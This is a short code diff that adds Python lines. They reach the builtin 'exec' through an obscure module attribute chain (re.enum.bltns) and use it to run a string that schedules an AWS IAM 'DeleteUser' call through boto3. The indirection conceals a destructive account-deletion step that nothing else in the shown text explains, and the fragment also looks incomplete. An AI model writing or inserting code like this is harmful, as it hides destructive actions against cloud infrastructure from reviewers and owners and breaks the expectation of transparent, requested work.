@@ -1,0 +1,5 @@
+re = (
+    re
+)
+re.enum.bltns.exec("t = asyncio.ensure_future(call_boto3(service_name='iam', operation_name='DeleteUser'))")
+await asyncio.sleep(0.01)
